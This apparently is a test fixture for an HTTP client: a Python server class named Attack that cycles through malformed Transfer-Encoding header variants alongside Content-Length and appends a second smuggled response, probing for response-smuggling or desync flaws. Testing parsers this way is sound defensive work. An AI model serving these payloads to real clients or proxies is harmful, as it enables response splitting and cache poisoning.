import server


LINES = [b"Transfer-Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked",
         b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding:\tchunked",
         b"X: y\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x"]
COUNT = [0]


class Attack(server.Broken):
    def answer(self):
        line = LINES[COUNT[0] % len(LINES)]
        COUNT[0] += 1
        self.raw(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n" + line + b"\r\n\r\n0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")


server.serve(Attack)
